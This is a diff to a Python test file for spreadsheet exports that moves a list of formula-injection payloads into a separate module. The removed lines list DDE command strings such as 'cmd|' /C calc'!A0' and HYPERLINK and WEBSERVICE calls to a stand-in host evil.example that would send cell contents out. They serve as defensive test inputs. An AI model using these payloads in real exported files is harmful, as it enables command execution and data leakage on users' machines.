@@ -1,7 +1,6 @@
 """A workbook holds typed values, and nothing that Excel runs or changes."""
 
 import io
-import itertools
 import re
 import zipfile
 from datetime import UTC, date, datetime, time, timedelta
@@ -18,6 +17,7 @@ from admin_core.exports import sheets
 from admin_core.exports.files import content, told
 from admin_core.exports.sheets import TOO_LONG, workbook
 from admin_core.exports.texts import FORMATS, Parsed
+from tests.admin_core.exports.payloads import PAYLOADS
 
 NOON = datetime(2026, 3, 5, 12, 7, 8, tzinfo=UTC)
 
@@ -69,21 +69,6 @@ def test_a_value_is_what_it_is(value: Any, held: Any, kind: str, shown: str) -> 
 
 def test_nothing_is_an_empty_cell() -> None:
     assert [cell.value for cell in cells([None, 1])] == [None, 1]
-
-
-SIGNS = [
-    "=", "+", "-", "@", "|", "%", "\uff1d", "\uff0b", "\t=", "\r=", "\n=", " =", "\ufeff=", "'=",
-    '"=', ";=", ",=", "{=", "=-", "@@",
-]  # fmt: skip
-DEEDS = [
-    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example?x="&A1,"click")', "SUM(A1:A9)", "DDE(1)",
-    "IMPORTXML(1)",
-    'WEBSERVICE("http://evil.example")', "A1",
-    "2+5+cmd|' /C calc'!A0", "@SUM(1+1)", "1e5", "ROW()", "INDIRECT(A1)", "x",
-    "1;=2", "1\n=2", "CALL(1)", "REGISTER.ID(1)", "msexcel|'..'!_xlbgnm.A1", "RTD(1)", "IMPORTDATA(1)", "ENCODEURL(1)",
-    "FILTERXML(1,2)", "EXEC(1)", "ARRAYFORMULA(1)",
-]  # fmt: skip
-PAYLOADS = [f"{sign}{deed}" for sign, deed in itertools.product(SIGNS, DEEDS)]
 
 
 def test_no_formula_of_five_hundred_is_active() -> None:
